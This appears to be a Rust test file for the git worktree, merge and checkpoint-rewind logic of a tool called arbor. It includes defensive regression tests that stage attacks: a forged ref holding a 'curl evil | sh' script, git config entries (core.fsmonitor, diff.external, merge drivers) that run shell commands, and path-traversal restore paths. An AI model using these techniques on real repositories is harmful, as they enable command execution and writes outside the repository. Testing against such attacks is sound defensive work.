//! The git steps on real temp repositories (no user identity configured: the
//! commands carry arbor's own).

use std::path::Path;

use super::checkpoint::Checkpoints;
use super::worktree::WorktreeRecord;
use super::*;

fn repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    git::Git::at(dir.path()).run(&["init", "--quiet"]).unwrap();
    std::fs::write(dir.path().join("app.py"), "VALUE = 0\n").unwrap();
    let git = git::Git::at(dir.path());
    git.run(&["add", "app.py"]).unwrap();
    git.run(&["commit", "--quiet", "-m", "init"]).unwrap();
    dir
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap()
}

#[test]
fn a_worktree_starts_from_uncommitted_changes_and_merges_back() {
    let main = repo();
    std::fs::write(main.path().join("notes.txt"), "draft\n").unwrap();
    let state = tempfile::tempdir().unwrap();
    let wt = WorktreeRecord::create(main.path(), "abcd1234", state.path()).unwrap();
    assert_eq!(wt.branch, "arbor/abcd1234");
    assert!(
        wt.path
            .starts_with(std::fs::canonicalize(state.path()).unwrap())
    );
    assert_eq!(
        read(&wt.path.join("notes.txt")),
        "draft\n",
        "untracked file carried"
    );
    std::fs::write(wt.path.join("app.py"), "VALUE = 'A'\n").unwrap();
    assert_eq!(wt.changed_files().unwrap(), vec!["app.py".to_string()]);
    assert!(wt.diff().unwrap().contains("+VALUE = 'A'"));
    assert!(wt.commit("turn 1").unwrap());
    assert_eq!(
        read(&main.path().join("app.py")),
        "VALUE = 0\n",
        "main untouched"
    );
    let merged = merge::merge(&wt, main.path()).unwrap();
    assert_eq!(merged.files, vec!["app.py".to_string()]);
    assert_eq!(read(&main.path().join("app.py")), "VALUE = 'A'\n");
    wt.remove().unwrap();
    assert!(!wt.path.exists());
    assert!(
        !wt.path.parent().unwrap().exists(),
        "the repository's directory under the worktrees root went with its last worktree"
    );
    let branches = git::Git::at(main.path())
        .run(&["branch", "--list", "arbor/*"])
        .unwrap();
    assert!(branches.is_empty(), "{branches}");
}

#[test]
fn a_conflicting_merge_changes_nothing_and_names_the_file() {
    let main = repo();
    let state = tempfile::tempdir().unwrap();
    let a = WorktreeRecord::create(main.path(), "aaaa0000", state.path()).unwrap();
    let b = WorktreeRecord::create(main.path(), "bbbb0000", state.path()).unwrap();
    std::fs::write(a.path.join("app.py"), "VALUE = 'A'\n").unwrap();
    std::fs::write(b.path.join("app.py"), "VALUE = 'B'\n").unwrap();
    std::fs::write(b.path.join("other.py"), "x = 1\n").unwrap();
    merge::merge(&a, main.path()).unwrap();
    let err = merge::merge(&b, main.path()).unwrap_err();
    match &err {
        IsolationError::Conflict { files } => assert_eq!(files, &vec!["app.py".to_string()]),
        other => panic!("{other:?}"),
    }
    assert_eq!(read(&main.path().join("app.py")), "VALUE = 'A'\n");
    assert!(
        !main.path().join("other.py").exists(),
        "nothing of b applied"
    );
}

#[test]
fn a_conflict_shows_both_sides_and_markers_name_parent_and_branch() {
    let main = repo();
    std::fs::write(main.path().join("app.py"), "top\nVALUE = 0\nend\n").unwrap();
    let state = tempfile::tempdir().unwrap();
    let a = WorktreeRecord::create(main.path(), "aaaa1111", state.path()).unwrap();
    let b = WorktreeRecord::create(main.path(), "bbbb1111", state.path()).unwrap();
    std::fs::write(a.path.join("app.py"), "top\nVALUE = 'A'\nend\n").unwrap();
    std::fs::write(b.path.join("app.py"), "top\nVALUE = 'B'\nend\n").unwrap();
    std::fs::write(b.path.join("other.py"), "x = 1\n").unwrap();
    merge::merge(&a, main.path()).unwrap();
    assert!(merge::conflicts(&a, main.path()).unwrap().is_empty());
    let found = merge::conflicts(&b, main.path()).unwrap();
    assert_eq!(
        found,
        vec![merge::FileConflict {
            file: "app.py".into(),
            hunks: vec![merge::Hunk {
                parent: "VALUE = 'A'\n".into(),
                child: "VALUE = 'B'\n".into(),
            }],
        }]
    );
    assert!(!main.path().join("other.py").exists(), "nothing written");
    let merged = merge::merge_with_markers(&b, main.path()).unwrap();
    assert_eq!(merged.conflicted, vec!["app.py".to_string()]);
    assert_eq!(
        read(&main.path().join("app.py")),
        "top\n<<<<<<< parent\nVALUE = 'A'\n=======\nVALUE = 'B'\n>>>>>>> arbor/bbbb1111\nend\n"
    );
    assert_eq!(read(&main.path().join("other.py")), "x = 1\n");
}

#[test]
fn hunks_skip_the_base_section_of_diff3_markers() {
    let text = "a\n<<<<<<< x\nours\n||||||| base\nold\n=======\ntheirs\n>>>>>>> y\nz\n";
    assert_eq!(
        merge::hunks_of(text),
        vec![merge::Hunk {
            parent: "ours\n".into(),
            child: "theirs\n".into()
        }]
    );
}

#[test]
fn rewind_restores_and_refuses_files_changed_since() {
    let main = repo();
    let private = tempfile::tempdir().unwrap();
    let cp = Checkpoints::open(main.path(), "s1", &private.path().join("c.git")).unwrap();
    cp.before_turn(1).unwrap();
    std::fs::write(main.path().join("app.py"), "VALUE = 1\n").unwrap();
    cp.after_turn().unwrap();
    cp.before_turn(2).unwrap();
    std::fs::write(main.path().join("made.txt"), "by bash\n").unwrap();
    cp.after_turn().unwrap();
    // Someone else edits app.py afterwards: refused unless forced.
    std::fs::write(main.path().join("app.py"), "VALUE = 'mine'\n").unwrap();
    let err = cp.rewind(0, 2, false).unwrap_err();
    assert!(err.to_string().contains("app.py"), "{err}");
    assert!(main.path().join("made.txt").exists(), "nothing changed");
    let done = cp.rewind(1, 2, false).unwrap();
    assert_eq!(done.files, vec!["made.txt".to_string()]);
    assert!(!main.path().join("made.txt").exists());
    assert_eq!(read(&main.path().join("app.py")), "VALUE = 'mine'\n");
    let err = cp.rewind(5, 2, false).unwrap_err();
    assert_eq!(err.to_string(), "Turn 5 out of range. Valid range: 0-2");
    let refs = git::Git::at(main.path())
        .run(&["branch", "--list"])
        .unwrap();
    assert!(
        !refs.contains("arbor"),
        "checkpoints are on no branch: {refs}"
    );
}

#[test]
fn outside_git_checkpoints_live_in_a_private_repository() {
    let dir = tempfile::tempdir().unwrap();
    let private = tempfile::tempdir().unwrap();
    let store = private.path().join("checkpoints.git");
    std::fs::write(dir.path().join("a.txt"), "one\n").unwrap();
    let cp = Checkpoints::open(dir.path(), "s1", &store).unwrap();
    cp.before_turn(1).unwrap();
    std::fs::write(dir.path().join("a.txt"), "two\n").unwrap();
    cp.after_turn().unwrap();
    assert!(store.join("HEAD").exists());
    assert!(!dir.path().join(".git").exists());
    cp.rewind(0, 1, false).unwrap();
    assert_eq!(read(&dir.path().join("a.txt")), "one\n");
}

/// A same-size edit in the index's own second (a `bash` change right after a
/// commit) is in the snapshot: the temporary index keeps the real one's time, so git
/// re-reads such racily clean entries instead of trusting their cached stat.
#[test]
fn a_same_size_edit_in_the_index_second_is_snapshotted() {
    let main = repo();
    let git = git::Git::at(main.path());
    let app = main.path().join("app.py");
    let then = std::time::SystemTime::now() - std::time::Duration::from_secs(100);
    let stamp = |p: &Path| {
        std::fs::File::options()
            .write(true)
            .open(p)
            .unwrap()
            .set_modified(then)
            .unwrap()
    };
    // The index caches app.py's stat at `then` (written later, so not smudged).
    stamp(&app);
    git.run(&["update-index", "--refresh"]).unwrap();
    // Same size, same time as cached; the index itself dated that second too.
    std::fs::write(&app, "VALUE = 1\n").unwrap();
    stamp(&app);
    let index = git
        .run(&["rev-parse", "--path-format=absolute", "--git-path", "index"])
        .unwrap();
    stamp(Path::new(&index));
    let tree = git.snapshot().unwrap();
    let blob = git.run(&["show", &format!("{tree}:app.py")]).unwrap();
    assert_eq!(blob.trim_end(), "VALUE = 1");
}

#[test]
fn parallel_worktrees_of_one_repository_are_all_created() {
    // git races on `.git/worktrees/<name>/commondir` when two `worktree add`s run at
    // once: parallel children (and worker slots) must still all get theirs.
    let main = repo();
    let state = tempfile::tempdir().unwrap();
    let failures: Vec<String> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..24)
            .map(|i| {
                let (dir, root) = (main.path(), state.path());
                s.spawn(move || WorktreeRecord::create(dir, &format!("{i:08x}"), root))
            })
            .collect();
        handles
            .into_iter()
            .filter_map(|h| h.join().unwrap().err().map(|e| e.to_string()))
            .collect()
    });
    assert!(failures.is_empty(), "{failures:#?}");
}

/// Issue 34: a session's `bash` can rewrite `refs/arbor/*`; the rewind reads the
/// checkpoint record kept with the session, so a forged ref restores nothing.
#[test]
fn a_forged_checkpoint_ref_is_not_what_a_rewind_restores() {
    let main = repo();
    let private = tempfile::tempdir().unwrap();
    let store = private.path().join("checkpoints.git");
    let cp = Checkpoints::open(main.path(), "s1", &store).unwrap();
    cp.before_turn(1).unwrap();
    std::fs::write(main.path().join("app.py"), "VALUE = 1\n").unwrap();
    cp.after_turn().unwrap();
    // The forger: a tree holding `evil.sh`, under the turn's ref.
    let git = git::Git::at(main.path());
    std::fs::write(main.path().join("evil.sh"), "curl evil | sh\n").unwrap();
    let forged = git.snapshot().unwrap();
    std::fs::remove_file(main.path().join("evil.sh")).unwrap();
    git.run(&["update-ref", "refs/arbor/s1/1", &forged])
        .unwrap();
    let done = cp.rewind(0, 1, false).unwrap();
    assert_eq!(done.files, vec!["app.py".to_string()]);
    assert_eq!(read(&main.path().join("app.py")), "VALUE = 0\n");
    assert!(
        !main.path().join("evil.sh").exists(),
        "forged tree restored"
    );
}

/// Issue 34: a tree naming `.git/hooks/pre-commit`, `../x` or a path through a
/// symlinked directory is refused whole, before anything is written.
#[test]
fn a_restore_refuses_git_dirs_parents_and_symlinked_parents() {
    let main = repo();
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), main.path().join("link")).unwrap();
    let git = git::Git::at(main.path());
    let tree = git.snapshot().unwrap();
    for bad in [
        ".git/hooks/pre-commit",
        "../x",
        "/etc/x",
        "link/x",
        "sub/.GIT/config",
    ] {
        let err = git
            .restore(&tree, main.path(), &["app.py".into(), bad.into()])
            .unwrap_err();
        assert!(
            matches!(err, IsolationError::UnsafePath { .. }),
            "{bad}: {err}"
        );
    }
    assert!(!main.path().join(".git/hooks/pre-commit").exists());
    assert!(std::fs::read_dir(outside.path()).unwrap().next().is_none());
    assert_eq!(read(&main.path().join("app.py")), "VALUE = 0\n");
}

/// Issue 34: a child that points its worktree's `HEAD` at the person's branch does
/// not get arbor's end-of-turn commit onto it: the commit goes to its own branch.
#[test]
fn a_worktree_commit_goes_to_its_branch_whatever_head_says() {
    let main = repo();
    let state = tempfile::tempdir().unwrap();
    let wt = WorktreeRecord::create(main.path(), "abcd1234", state.path()).unwrap();
    let main_git = git::Git::at(main.path());
    let branch = main_git.run(&["symbolic-ref", "--short", "HEAD"]).unwrap();
    let before = main_git.commit_of(&branch).unwrap();
    let head_file = wt.git_dir.clone().unwrap().join("HEAD");
    std::fs::write(&head_file, format!("ref: refs/heads/{branch}\n")).unwrap();
    std::fs::write(wt.path.join("app.py"), "VALUE = 'child'\n").unwrap();
    assert!(wt.commit("turn 1").unwrap());
    assert_eq!(
        main_git.commit_of(&branch).unwrap(),
        before,
        "person's branch moved"
    );
    let tip = main_git.commit_of(&wt.branch).unwrap().unwrap();
    let shown = main_git.run(&["show", &format!("{tip}:app.py")]).unwrap();
    assert_eq!(shown, "VALUE = 'child'");
    assert!(!wt.commit("turn 2").unwrap(), "nothing new to commit");
}

/// Issue 34: a worktree child that rewrites its `.git` file to point at a repository
/// it controls does not redirect arbor's commit there.
#[test]
fn a_rewritten_worktree_git_file_does_not_redirect_arbors_commit() {
    let main = repo();
    let state = tempfile::tempdir().unwrap();
    let wt = WorktreeRecord::create(main.path(), "abcd1234", state.path()).unwrap();
    let evil = tempfile::tempdir().unwrap();
    git::Git::at(evil.path()).run(&["init", "--quiet"]).unwrap();
    let marker = evil.path().join("PWNED");
    git::Git::at(evil.path())
        .run(&[
            "config",
            "core.fsmonitor",
            &format!("touch {}", marker.display()),
        ])
        .unwrap();
    std::fs::write(
        wt.path.join(".git"),
        format!("gitdir: {}\n", evil.path().join(".git").display()),
    )
    .unwrap();
    std::fs::write(wt.path.join("app.py"), "VALUE = 'child'\n").unwrap();
    assert!(wt.commit("turn 1").unwrap());
    assert!(!marker.exists());
    let tip = git::Git::at(main.path()).commit_of(&wt.branch).unwrap();
    assert!(tip.is_some());
    let evil_head = git::Git::at(evil.path()).commit_of("HEAD").unwrap();
    assert!(evil_head.is_none(), "commit went to the forged repository");
}

/// Issue 34: a repository configuring an external diff, a textconv and a merge driver
/// gets a worktree diff and a merge from arbor without any of them running; the file
/// whose merge driver is configured merges as a conflict (fail closed).
#[test]
fn configured_diff_and_merge_programs_never_run() {
    let main = repo();
    let git = git::Git::at(main.path());
    let marker = main.path().join("PWNED");
    let run = format!("sh -c 'touch {}; cat'", marker.display());
    for key in [
        "diff.external",
        "diff.evil.textconv",
        "diff.evil.command",
        "merge.evil.driver",
    ] {
        git.run(&["config", key, &run]).unwrap();
    }
    std::fs::write(
        main.path().join(".gitattributes"),
        "guarded.txt diff=evil merge=evil\n",
    )
    .unwrap();
    std::fs::write(main.path().join("guarded.txt"), "one\n").unwrap();
    git.run(&["add", "--all"]).unwrap();
    git.run(&["commit", "--quiet", "-m", "attrs"]).unwrap();
    let state = tempfile::tempdir().unwrap();
    let wt = WorktreeRecord::create(main.path(), "abcd1234", state.path()).unwrap();
    std::fs::write(wt.path.join("app.py"), "VALUE = 'A'\n").unwrap();
    std::fs::write(wt.path.join("guarded.txt"), "child\n").unwrap();
    assert!(wt.diff().unwrap().contains("+VALUE = 'A'"));
    std::fs::write(main.path().join("guarded.txt"), "parent\n").unwrap();
    let err = merge::merge(&wt, main.path()).unwrap_err();
    assert!(err.to_string().contains("guarded.txt"), "{err}");
    assert!(!marker.exists(), "a configured program ran");
}

/// A session stored before the checkpoint record existed keeps its earlier turns:
/// its refs are taken into the record the first time it checkpoints again.
#[test]
fn a_session_from_before_the_record_keeps_its_earlier_turns() {
    let main = repo();
    let private = tempfile::tempdir().unwrap();
    let store = private.path().join("s1").join("checkpoints.git");
    let git = git::Git::at(main.path());
    let before = git.snapshot().unwrap();
    git.run(&["update-ref", "refs/arbor/s1/1", &before])
        .unwrap();
    std::fs::write(main.path().join("app.py"), "VALUE = 1\n").unwrap();
    let cp = Checkpoints::open(main.path(), "s1", &store).unwrap();
    cp.after_turn().unwrap();
    cp.before_turn(2).unwrap();
    assert_eq!(cp.turns().unwrap(), vec![1, 2]);
    cp.rewind(0, 2, false).unwrap();
    assert_eq!(read(&main.path().join("app.py")), "VALUE = 0\n");
}

/// Issue 35: a grandchild cut from its parent's worktree still diffs (and says what
/// it changed) once that worktree is removed: its branch is read from the main
/// repository's `.git`.
#[test]
fn a_grandchilds_diff_survives_its_parents_worktree_going() {
    let main = repo();
    let state = tempfile::tempdir().unwrap();
    let parent = WorktreeRecord::create(main.path(), "aaaa1111", state.path()).unwrap();
    let child = WorktreeRecord::create(&parent.path, "bbbb2222", state.path()).unwrap();
    std::fs::write(child.path.join("app.py"), "VALUE = 'grandchild'\n").unwrap();
    assert!(child.commit("turn 1").unwrap());
    std::fs::remove_dir_all(&child.path).unwrap();
    parent.remove().unwrap();
    assert!(!child.repo.exists());
    assert!(child.diff().unwrap().contains("+VALUE = 'grandchild'"));
    assert_eq!(child.changed_files().unwrap(), vec!["app.py".to_string()]);
}

/// Outside any repository discovery answers without a `git` process; a repository,
/// a subdirectory, a worktree (a `.git` file) and a bare repository (no work tree:
/// git itself says so) are all still asked.
#[test]
fn discovery_outside_any_repository_spawns_no_git_and_still_asks_it_near_one() {
    let spawns = || git::SPAWNS.with(std::cell::Cell::get);
    let plain = tempfile::tempdir().unwrap();
    let deep = plain.path().join("a/b");
    std::fs::create_dir_all(&deep).unwrap();
    let before = spawns();
    let outside = Repo::discover(&deep);
    assert!(
        matches!(outside, Err(IsolationError::NotARepo { .. })),
        "{outside:?}"
    );
    assert_eq!(spawns(), before, "no git outside a repository");

    let main = repo();
    let top = std::fs::canonicalize(main.path()).unwrap();
    std::fs::create_dir_all(main.path().join("src/deep")).unwrap();
    let before = spawns();
    assert_eq!(
        Repo::discover(&main.path().join("src/deep")).unwrap().top,
        top
    );
    assert!(spawns() > before);

    let linked = plain.path().join("linked");
    git::Git::at(main.path())
        .run(&[
            "worktree",
            "add",
            "--quiet",
            "--detach",
            &linked.to_string_lossy(),
        ])
        .unwrap();
    assert_eq!(
        Repo::discover(&linked).unwrap().top,
        std::fs::canonicalize(&linked).unwrap()
    );

    let bare = plain.path().join("bare.git");
    git::Git::at(plain.path())
        .run(&["init", "--quiet", "--bare", &bare.to_string_lossy()])
        .unwrap();
    let before = spawns();
    assert!(matches!(
        Repo::discover(&bare),
        Err(IsolationError::NotARepo { .. })
    ));
    assert!(spawns() > before, "a bare repository is git's to judge");
}
